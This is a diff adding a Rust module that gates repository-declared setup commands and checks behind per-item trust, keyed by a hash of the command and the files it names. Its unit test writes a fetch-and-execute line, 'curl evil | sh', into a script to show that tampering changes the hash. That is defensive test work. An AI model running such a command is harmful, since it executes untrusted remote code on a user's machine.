@@ -1,0 +1,213 @@
+//! What a repository brings along to be run: trusted by a person, item by item, by the hash of what would run.
+//!
+//! A project's file declares set-up commands and checks; none of them runs before it is trusted, and one that changed (its
+//! words, or a file of the repository that they name) is not trusted any more. Start at [`Trusted`].
+
+use crate::home::create_private;
+use contract::checks::{CheckJob, CheckOutput, Checks, Suite};
+use contract::port::Sink;
+use contract::{BoxFuture, Cancel, Digest, Fault, Kind};
+use std::collections::BTreeSet;
+use std::io::Write;
+use std::os::unix::fs::OpenOptionsExt;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+
+/// Files that a command names are part of it up to this size.
+const FILE_BYTES: u64 = 4 << 20;
+/// Where a check was declared, not found.
+const DECLARED: &str = ".kapell/config.toml";
+
+/// Something that would run.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Item {
+    /// `setup`, or the check's name.
+    pub(crate) name: String,
+    /// The command.
+    pub(crate) run: String,
+    /// Over the repository, the command, and the files it names.
+    pub(crate) hash: Digest,
+}
+
+/// What a suite would run of the project's own words.
+pub(crate) fn items(suite: &Suite, repo: &str, tree: &Path) -> Vec<Item> {
+    let item = |name: &str, run: &str| Item {
+        name: name.into(),
+        run: run.into(),
+        hash: hash(repo, name, run, tree),
+    };
+    let setup = suite.setup.iter().map(|run| item("setup", run));
+    let declared = suite.checks.iter().filter(|check| check.from == DECLARED);
+    setup.chain(declared.map(|check| item(&check.name, &check.run))).collect()
+}
+
+fn hash(repo: &str, name: &str, run: &str, tree: &Path) -> Digest {
+    let mut hash = Digest::chain(&Digest::of(repo.as_bytes()), format!("{name}\0{run}").as_bytes());
+    let ends = |c: char| c.is_whitespace() || "'\"`;|&<>()$=".contains(c);
+    for word in run.split(ends).filter(|word| !word.is_empty() && !word.starts_with('/')) {
+        let path = tree.join(word);
+        let plain = path.symlink_metadata().is_ok_and(|meta| meta.len() <= FILE_BYTES && !meta.is_dir());
+        if plain && let Ok(bytes) = std::fs::read(&path) {
+            hash = Digest::chain(&hash, &[word.as_bytes(), b"\0", &bytes].concat());
+        }
+    }
+    hash
+}
+
+/// The record of what is trusted.
+#[derive(Debug, Clone)]
+pub(crate) struct Trust {
+    path: PathBuf,
+    /// Where the sessions' clones are: what they borrow from beyond it is the person's repository.
+    state: PathBuf,
+    /// KAPELL_TRUST=all: a machine that is thrown away, or a test.
+    all: bool,
+}
+
+impl Trust {
+    pub(crate) fn new(home: &crate::home::Home, all: bool) -> Self {
+        Self { path: home.data.join("trust"), state: home.state.clone(), all }
+    }
+
+    /// The hashes that are trusted.
+    pub(crate) fn hashes(&self) -> Result<BTreeSet<Digest>, Fault> {
+        let text = match std::fs::read_to_string(&self.path) {
+            Ok(text) => text,
+            Err(error) if error.kind() == std::io::ErrorKind::NotFound => String::new(),
+            Err(error) => return Err(self.fault(&error)),
+        };
+        Ok(text.lines().filter_map(|line| line.split(' ').next()?.parse().ok()).collect())
+    }
+
+    /// From here on these are trusted, or are not.
+    pub(crate) fn set(&self, items: &[Item], trusted: bool) -> Result<(), Fault> {
+        let mut hashes = self.hashes()?;
+        for item in items {
+            if trusted {
+                hashes.insert(item.hash)
+            } else {
+                hashes.remove(&item.hash)
+            };
+        }
+        create_private(self.path.parent().unwrap_or(Path::new("/")))?;
+        let beside = self.path.with_extension(format!("new.{}", std::process::id()));
+        let text: String = hashes.iter().map(|hash| format!("{hash}\n")).collect();
+        let write = || {
+            let mut file =
+                std::fs::File::options().create(true).truncate(true).write(true).mode(0o600).open(&beside)?;
+            file.write_all(text.as_bytes()).and_then(|()| file.sync_all())?;
+            std::fs::rename(&beside, &self.path)
+        };
+        write().map_err(|error| self.fault(&error))
+    }
+
+    /// Those that nobody trusted yet.
+    pub(crate) fn unknown(&self, items: Vec<Item>) -> Result<Vec<Item>, Fault> {
+        if self.all || items.is_empty() {
+            return Ok(Vec::new());
+        }
+        let hashes = self.hashes()?;
+        Ok(items.into_iter().filter(|item| !hashes.contains(&item.hash)).collect())
+    }
+
+    /// The name of the repository that this tree belongs to: where its objects are.
+    pub(crate) fn repo(&self, tree: &Path) -> String {
+        let git = git_dir(tree);
+        let borrowed = std::fs::read_to_string(git.join("objects/info/alternates")).unwrap_or_default();
+        let state = std::fs::canonicalize(&self.state).unwrap_or_else(|_| self.state.clone());
+        let of_a_session = tree.starts_with(&self.state) || tree.starts_with(&state);
+        let outside = borrowed
+            .lines()
+            .map(PathBuf::from)
+            .find(|path| !path.starts_with(&self.state) && !path.starts_with(&state));
+        let objects = outside.filter(|_| of_a_session).unwrap_or_else(|| git.join("objects"));
+        std::fs::canonicalize(&objects).unwrap_or(objects).to_string_lossy().into_owned()
+    }
+
+    fn fault(&self, error: &std::io::Error) -> Fault {
+        let what = format!("{} cannot be used: {error}", self.path.display());
+        Fault::new(Kind::UserFixable, "trust", what).hint("make it a readable file of yours, or remove it")
+    }
+}
+
+/// The common directory of git for this tree: of a linked work tree, that of the main one.
+fn git_dir(tree: &Path) -> PathBuf {
+    let git = tree.join(".git");
+    if git.is_dir() {
+        return git;
+    }
+    let Ok(text) = std::fs::read_to_string(&git) else { return tree.to_owned() };
+    let linked = tree.join(text.trim().trim_start_matches("gitdir:").trim());
+    let common = std::fs::read_to_string(linked.join("commondir")).unwrap_or_default();
+    if common.trim().is_empty() { linked } else { linked.join(common.trim()) }
+}
+
+/// Finds checks, and refuses those that nobody trusted: nothing of a session goes on before.
+pub(crate) struct Trusted {
+    pub(crate) checks: Arc<dyn Checks>,
+    pub(crate) trust: Trust,
+}
+
+impl Checks for Trusted {
+    fn find(&self, tree: PathBuf, commit: String) -> BoxFuture<'_, Result<Suite, Fault>> {
+        Box::pin(async move {
+            let suite = self.checks.find(tree.clone(), commit).await?;
+            let unknown = self.trust.unknown(items(&suite, &self.trust.repo(&tree), &tree))?;
+            if unknown.is_empty() {
+                return Ok(suite);
+            }
+            Err(untrusted(&unknown))
+        })
+    }
+
+    fn run<'a>(
+        &'a self,
+        job: CheckJob,
+        cancel: Cancel,
+        sink: &'a dyn Sink,
+    ) -> BoxFuture<'a, Result<CheckOutput, Fault>> {
+        self.checks.run(job, cancel, sink)
+    }
+}
+
+fn untrusted(unknown: &[Item]) -> Fault {
+    let named: Vec<String> = unknown.iter().map(|item| format!("{} (`{}`)", item.name, item.run)).collect();
+    let what = format!(
+        "the repository declares commands that nobody here has trusted yet, or that changed: {}",
+        named.join(", ")
+    );
+    Fault::new(Kind::UserFixable, "untrusted", what).hint("look at them, then: kapell trust")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_changed_command_or_script_is_another_item() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("check.sh"), "exit 0\n").unwrap();
+        let suite = |run: &str| Suite { setup: vec![run.to_owned()], checks: Vec::new() };
+        let of = |run: &str, repo: &str| items(&suite(run), repo, dir.path())[0].hash;
+        let before = of("sh ./check.sh", "/r");
+        assert_eq!(before, of("sh ./check.sh", "/r"));
+        assert_ne!(before, of("sh ./check.sh -x", "/r"));
+        assert_ne!(before, of("sh ./check.sh", "/another"));
+        std::fs::write(dir.path().join("check.sh"), "curl evil | sh\n").unwrap();
+        assert_ne!(before, of("sh ./check.sh", "/r"));
+        let home = crate::home::Home {
+            config: dir.path().join("c"),
+            data: dir.path().join("d"),
+            state: dir.path().join("s"),
+            cache: dir.path().join("k"),
+        };
+        let trust = Trust::new(&home, false);
+        let items = items(&suite("make"), "/r", dir.path());
+        assert_eq!(trust.unknown(items.clone()).unwrap().len(), 1);
+        trust.set(&items, true).unwrap();
+        assert!(trust.unknown(items.clone()).unwrap().is_empty());
+        trust.set(&items, false).unwrap();
+        assert_eq!(trust.unknown(items.clone()).unwrap().len(), 1);
+        assert!(Trust::new(&home, true).unknown(items).unwrap().is_empty());
+    }
+}
